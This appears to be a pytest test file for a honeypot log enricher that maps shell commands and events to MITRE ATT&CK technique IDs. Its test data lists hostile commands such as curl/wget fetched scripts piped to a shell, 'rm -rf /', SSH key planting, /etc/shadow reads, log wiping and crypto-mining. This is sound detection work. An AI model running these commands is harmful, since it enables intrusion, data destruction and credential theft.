"""Techniques of actions and of what commands do; no line takes long."""

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from samovar.enrich.attack import COMMANDS
from samovar.enrich.technique import TECHNIQUES, of_command, technique
from tests.spool.lines import event

SHELL: dict[str, Any] = {"event_action": "command", "event_module": "terminal"}


@pytest.mark.parametrize(
    ("fields", "found"),
    [
        ({"event_action": "login"}, "T1110"),
        ({"event_action": "login", "samovar_login_password": "123456"}, "T1110.001"),
        (SHELL, "T1059.004"),
        ({**SHELL, "process_command_line": "uname -a"}, "T1082"),
        ({**SHELL, "event_module": "services", "process_command_line": "uname -a"}, None),
        ({"event_action": "request", "samovar_detail": {"forward": "direct-tcpip"}}, "T1090"),
        ({"event_action": "exploit", "event_module": "web"}, "T1190"),
        ({"event_action": "file", "event_module": "services"}, "T1105"),
        ({"event_action": "request", "event_module": "web"}, None),
        ({"event_action": "connect"}, None),
        ({"event_action": "login", "threat_technique_id": "T1078"}, "T1078"),
    ],
)
def test_technique(fields: dict[str, Any], found: str | None) -> None:
    assert technique(event(**fields)).threat_technique_id == found


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("cat /proc/cpuinfo | grep name | wc -l", ["T1082"]),
        (
            "cd /tmp; wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh",
            ["T1105", "T1222.002", "T1070.004"],
        ),
        ("sh -c 'curl http://192.0.2.1|bash'", ["T1105"]),
        ("/usr/bin/wget x", ["T1105"]),
        ("busybox tftp -g x", ["T1105"]),
        ("PATH=/bin nohup wget x", ["T1105"]),
        ("echo wget", []),
        ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", ["T1098.004"]),
        ("useradd -m x", ["T1136.001"]),
        ("echo root:x | chpasswd", ["T1098"]),
        ("cat /etc/passwd", ["T1087.001"]),
        ("cat /etc/shadow", ["T1003.008"]),
        ("crontab -l", ["T1053.003"]),
        ("echo '* * * * * x' > /etc/cron.d/x", ["T1053.003"]),
        ("unset HISTFILE", ["T1562.003"]),
        ("history -c", ["T1070.003"]),
        ("rm -f ~/.bash_history", ["T1070.003", "T1070.004"]),
        ("rm -rf /var/log/wtmp", ["T1070.002", "T1070.004"]),
        ("rm -rf /", ["T1485", "T1070.004"]),
        ("iptables -F", ["T1562.004"]),
        ("setenforce 0", ["T1562.001"]),
        ("systemctl stop nginx", ["T1489", "T1007"]),
        ("pkill -9 xmrig", ["T1496", "T1489"]),
        ("base64 -d x | sh", ["T1140"]),
        (r"echo -ne '\x7f\x45\x4c\x46'", ["T1105", "T1027"]),
        ("ifconfig", ["T1016"]),
        ("netstat -an", ["T1049"]),
        ("whoami; id", ["T1033"]),
        ("ps aux", ["T1057"]),
        ("ls -la", ["T1083"]),
        ("ssh root@192.0.2.9", ["T1021.004"]),
        ("chattr -ia .ssh", ["T1222.002"]),
        ("./xmrig -o stratum+tcp://192.0.2.1", ["T1496"]),
        ("echo hello", []),
    ],
)
def test_what_a_command_does(line: str, found: list[str]) -> None:
    assert of_command(line) == found


def test_all_of_several_are_kept_and_the_weightiest_is_the_field() -> None:
    enriched = technique(event(**SHELL, process_command_line="uname -a; wget x", samovar_detail={"cwd": "/"}))
    assert enriched.threat_technique_id == "T1105"
    assert enriched.samovar_detail == {"cwd": "/", "techniques": "T1105 T1082"}


def test_each_row_cites_a_page_and_shows_something() -> None:
    assert len({row.id for row in TECHNIQUES}) == len(TECHNIQUES)
    for row in (*COMMANDS, *TECHNIQUES):
        assert re.fullmatch(r"T\d{4}(\.\d{3})?", row.id)
        assert re.fullmatch(r"https://attack\.mitre\.org/techniques/T\d{4}/(\d{3}/)?", row.url)
        assert row.name
    assert all(row.names or row.pattern for row in COMMANDS)


@given(st.text(alphabet=" rm>-/;|\\x41\"'$(){}`=.authed_keys\n\0é", max_size=300))
def test_any_line_is_answered(line: str) -> None:
    assert set(of_command(line)) <= {row.id for row in TECHNIQUES}


def test_only_the_beginning_of_a_long_line_is_looked_at() -> None:
    assert of_command("echo " + "x" * 5000 + "; wget y") == []
    assert of_command("echo " + "x" * 3000 + "; wget y") == ["T1105"]


def test_patterns_repeat_nothing_that_repeats() -> None:
    """What makes a pattern slow is a repetition inside a repetition."""
    nested = re.compile(r"[+*}]\??\)(?:[+*]|\{\d*,)")
    assert [row.id for row in COMMANDS if row.pattern and nested.search(row.pattern.pattern)] == []
